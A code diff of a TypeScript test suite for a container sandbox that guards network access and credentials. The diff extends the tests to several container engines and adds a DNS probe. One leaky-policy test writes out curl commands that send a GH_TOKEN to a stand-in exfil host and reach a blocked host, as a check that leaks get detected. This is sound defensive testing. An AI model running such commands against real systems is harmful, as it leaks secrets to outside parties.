@@ -12,6 +12,7 @@ import { writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import {
+  ESCAPE_ENGINES,
   canariesIn,
   containsSecret,
   dumpScript,
@@ -28,6 +29,10 @@ import {
 /** Vector → the only outcome the sandbox may produce. `proxy` stands for the proxy's address. */
 const VECTORS: VectorTable = {
   dns_long_labels: { expect: 'rcode0:an1:proxy', why: 'answered locally with the proxy address, never forwarded' },
+  dns_system_resolver: {
+    expect: 'rcode0:an1:proxy',
+    why: 'the configured resolver (Docker: its embedded one) answers the proxy address',
+  },
   dns_txt: { expect: 'rcode0:an0', why: 'no TXT data exists to carry anything back' },
   dns_any: { expect: 'rcode0:an0', why: 'ANY gets an empty answer' },
   dns_aaaa: { expect: 'rcode0:an0', why: 'no IPv6 answers' },
@@ -100,113 +105,115 @@ const VECTORS: VectorTable = {
   aws_signed_for_scope_sent_elsewhere: { expect: '200', why: 'judged by the host it is sent to' },
 };
 
-let fixture: EscapeFixture;
-let run: SandboxRun;
-const dumpDir = '.escape-dump-network';
+for (const engine of ESCAPE_ENGINES) {
+  describe(`escape vectors: network and credentials (${engine})`, () => {
+    let fixture: EscapeFixture;
+    let run: SandboxRun;
+    const dumpDir = '.escape-dump-network';
 
-before(async () => {
-  fixture = await startEscapeFixture();
-  const script = [`python3 probes/network_vectors.py ${Object.keys(VECTORS).join(' ')}`, dumpScript(dumpDir)].join(
-    '\n',
-  );
-  run = await runInSandbox(fixture, script);
-});
+    before(async () => {
+      fixture = await startEscapeFixture(engine);
+      const script = [`python3 probes/network_vectors.py ${Object.keys(VECTORS).join(' ')}`, dumpScript(dumpDir)].join(
+        '\n',
+      );
+      run = await runInSandbox(fixture, script);
+    });
 
-after(() => removeEscapeFixture(fixture));
+    after(() => removeEscapeFixture(fixture));
 
-describe('escape vectors: network and credentials (podman)', () => {
-  vectorTests(VECTORS, () => ({ fixture, run }));
+    vectorTests(VECTORS, () => ({ fixture, run }));
 
-  it('positive controls: the real values did arrive where they belong, so the detectors can see them', () => {
-    const allowed = fixture.recorders.allowed.requests.find((q) => q.url === '/api/control');
-    assert.ok(allowed, 'the control request reached allowed.test');
-    const auth = allowed.headers.filter(([n]) => n.toLowerCase() === 'authorization');
-    assert.deepEqual(
-      auth.map(([, v]) => v),
-      [`Bearer ${fixture.canaries.ghToken}`],
-    );
-    const aws = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/control'));
-    assert.ok(aws, 'the signed control request reached s3.aws.test');
-    assert.ok(containsSecret(aws.headers.map(([n, v]) => `${n}: ${v}`).join('\n'), fixture.canaries.awsKeyId));
-    const presigned = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/presigned'));
-    assert.ok(presigned && containsSecret(presigned.url, fixture.canaries.awsKeyId), 'presigned URL re-signed');
-  });
-
-  it('surrogates outside their one place reach the upstream unchanged, never as the real value', () => {
-    const { allowed, exfil } = fixture.recorders;
-    const surrogateSeen = (url: string, recorder = allowed) => recorder.requests.find((q) => q.url.startsWith(url));
-    const query = surrogateSeen('/api/q');
-    assert.ok(query && !containsSecret(query.url, fixture.canaries.ghToken) && /token=ghp_/.test(query.url));
-    const body = surrogateSeen('/api/body');
-    assert.ok(body && body.body.toString().startsWith('token=ghp_'));
-    assert.ok(!containsSecret(body.body, fixture.canaries.ghToken));
-    const plain = surrogateSeen('/api/plain');
-    assert.ok(plain, 'plain HTTP request reached allowed.test');
-    assert.ok(!containsSecret(plain.headers.map(([, v]) => v).join('\n'), fixture.canaries.ghToken));
-    const dup = surrogateSeen('/api/dup-auth');
-    assert.deepEqual(
-      dup?.headers.filter(([n]) => n.toLowerCase() === 'authorization').map(([, v]) => v),
-      [`Bearer ${fixture.canaries.ghToken}`],
-      'two Authorization headers collapse to the one real credential: ATTACKER never rides along',
-    );
-    for (const url of ['/api/auth-list', '/api/basic-swap']) {
-      const q = surrogateSeen(url);
-      assert.ok(q, url);
+    it('positive controls: the real values did arrive where they belong, so the detectors can see them', () => {
+      const allowed = fixture.recorders.allowed.requests.find((q) => q.url === '/api/control');
+      assert.ok(allowed, 'the control request reached allowed.test');
+      const auth = allowed.headers.filter(([n]) => n.toLowerCase() === 'authorization');
       assert.deepEqual(
-        q.headers.filter(([n]) => n.toLowerCase() === 'authorization'),
-        [],
-        `${url}: a surrogate with other content is stripped`,
+        auth.map(([, v]) => v),
+        [`Bearer ${fixture.canaries.ghToken}`],
       );
-    }
-    const collect = surrogateSeen('/collect', exfil);
-    assert.ok(collect && /Bearer ghp_/.test(collect.headers.map(([, v]) => v).join('\n')));
-  });
+      const aws = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/control'));
+      assert.ok(aws, 'the signed control request reached s3.aws.test');
+      assert.ok(containsSecret(aws.headers.map(([n, v]) => `${n}: ${v}`).join('\n'), fixture.canaries.awsKeyId));
+      const presigned = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/presigned'));
+      assert.ok(presigned && containsSecret(presigned.url, fixture.canaries.awsKeyId), 'presigned URL re-signed');
+    });
 
-  it('no smuggled or refused request reached any upstream, and nothing reached blocked.test, attacker.test or the raw listeners', () => {
-    assert.deepEqual(listenerViolations(fixture), []);
-    for (const r of Object.values(fixture.recorders)) {
-      assert.ok(!r.requests.some((q) => q.url.includes('smuggled')), `${r.name} saw a smuggled request`);
-    }
-  });
+    it('surrogates outside their one place reach the upstream unchanged, never as the real value', () => {
+      const { allowed, exfil } = fixture.recorders;
+      const surrogateSeen = (url: string, recorder = allowed) => recorder.requests.find((q) => q.url.startsWith(url));
+      const query = surrogateSeen('/api/q');
+      assert.ok(query && !containsSecret(query.url, fixture.canaries.ghToken) && /token=ghp_/.test(query.url));
+      const body = surrogateSeen('/api/body');
+      assert.ok(body && body.body.toString().startsWith('token=ghp_'));
+      assert.ok(!containsSecret(body.body, fixture.canaries.ghToken));
+      const plain = surrogateSeen('/api/plain');
+      assert.ok(plain, 'plain HTTP request reached allowed.test');
+      assert.ok(!containsSecret(plain.headers.map(([, v]) => v).join('\n'), fixture.canaries.ghToken));
+      const dup = surrogateSeen('/api/dup-auth');
+      assert.deepEqual(
+        dup?.headers.filter(([n]) => n.toLowerCase() === 'authorization').map(([, v]) => v),
+        [`Bearer ${fixture.canaries.ghToken}`],
+        'two Authorization headers collapse to the one real credential: ATTACKER never rides along',
+      );
+      for (const url of ['/api/auth-list', '/api/basic-swap']) {
+        const q = surrogateSeen(url);
+        assert.ok(q, url);
+        assert.deepEqual(
+          q.headers.filter(([n]) => n.toLowerCase() === 'authorization'),
+          [],
+          `${url}: a surrogate with other content is stripped`,
+        );
+      }
+      const collect = surrogateSeen('/collect', exfil);
+      assert.ok(collect && /Bearer ghp_/.test(collect.headers.map(([, v]) => v).join('\n')));
+    });
 
-  it('no canary anywhere in the sandbox (blocked content, real secrets): env, every process environ/cmdline, root file system, output', async () => {
-    for (const secret of Object.values(fixture.canaries)) assert.ok(!containsSecret(run.stdout, secret));
-    assert.deepEqual(await canariesIn(path.join(fixture.workspace, dumpDir), fixture.canaries), []);
-  });
+    it('no smuggled or refused request reached any upstream, and nothing reached blocked.test, attacker.test or the raw listeners', () => {
+      assert.deepEqual(listenerViolations(fixture), []);
+      for (const r of Object.values(fixture.recorders)) {
+        assert.ok(!r.requests.some((q) => q.url.includes('smuggled')), `${r.name} saw a smuggled request`);
+      }
+    });
 
-  it('the detectors catch a leak: under a deliberately leaky policy every kind of violation is reported', async () => {
-    const leaky = await startEscapeFixture();
-    try {
-      // Scope the token to the attacker's host, hand the real value to the sandbox, allow the blocked host.
-      await writeFile(
-        path.join(leaky.workspace, '.airlock/sandbox.yaml'),
-        leaky.sandboxYaml.replace('scopes: [allowed.test]', 'scopes: [allowed.test, exfil.test]') +
-          '  LEAKED: !env GH_TOKEN\n',
-      );
-      await writeFile(
-        path.join(leaky.workspace, '.airlock/network-allowlist.yaml'),
-        leaky.allowlistYaml + '  - {host: blocked.test}\n',
-      );
-      const r = await runInSandbox(
-        leaky,
-        [
-          'curl -s https://blocked.test/content',
-          'curl -s -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https://exfil.test/collect',
-          dumpScript('.dump'),
-        ].join('\n'),
-      );
-      assert.equal(r.code, 0, r.stderr);
-      const seen = listenerViolations(leaky).map((v) => v.what);
-      assert.ok(seen.includes('a connection reached blocked.test'), JSON.stringify(seen));
-      assert.ok(seen.includes('real GH_TOKEN at exfil.test'), JSON.stringify(seen));
-      assert.ok(containsSecret(r.stdout, leaky.canaries.blockedContent));
-      const found = await canariesIn(path.join(leaky.workspace, '.dump'), leaky.canaries);
-      assert.ok(
-        found.some((f) => f.startsWith('GH_TOKEN real value in') && f.endsWith('env.txt')),
-        JSON.stringify(found),
-      );
-    } finally {
-      await removeEscapeFixture(leaky);
-    }
+    it('no canary anywhere in the sandbox (blocked content, real secrets): env, every process environ/cmdline, root file system, output', async () => {
+      for (const secret of Object.values(fixture.canaries)) assert.ok(!containsSecret(run.stdout, secret));
+      assert.deepEqual(await canariesIn(path.join(fixture.workspace, dumpDir), fixture.canaries), []);
+    });
+
+    it('the detectors catch a leak: under a deliberately leaky policy every kind of violation is reported', async () => {
+      const leaky = await startEscapeFixture(engine);
+      try {
+        // Scope the token to the attacker's host, hand the real value to the sandbox, allow the blocked host.
+        await writeFile(
+          path.join(leaky.workspace, '.airlock/sandbox.yaml'),
+          leaky.sandboxYaml.replace('scopes: [allowed.test]', 'scopes: [allowed.test, exfil.test]') +
+            '  LEAKED: !env GH_TOKEN\n',
+        );
+        await writeFile(
+          path.join(leaky.workspace, '.airlock/network-allowlist.yaml'),
+          leaky.allowlistYaml + '  - {host: blocked.test}\n',
+        );
+        const r = await runInSandbox(
+          leaky,
+          [
+            'curl -s https://blocked.test/content',
+            'curl -s -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https://exfil.test/collect',
+            dumpScript('.dump'),
+          ].join('\n'),
+        );
+        assert.equal(r.code, 0, r.stderr);
+        const seen = listenerViolations(leaky).map((v) => v.what);
+        assert.ok(seen.includes('a connection reached blocked.test'), JSON.stringify(seen));
+        assert.ok(seen.includes('real GH_TOKEN at exfil.test'), JSON.stringify(seen));
+        assert.ok(containsSecret(r.stdout, leaky.canaries.blockedContent));
+        const found = await canariesIn(path.join(leaky.workspace, '.dump'), leaky.canaries);
+        assert.ok(
+          found.some((f) => f.startsWith('GH_TOKEN real value in') && f.endsWith('env.txt')),
+          JSON.stringify(found),
+        );
+      } finally {
+        await removeEscapeFixture(leaky);
+      }
+    });
   });
-});
+}
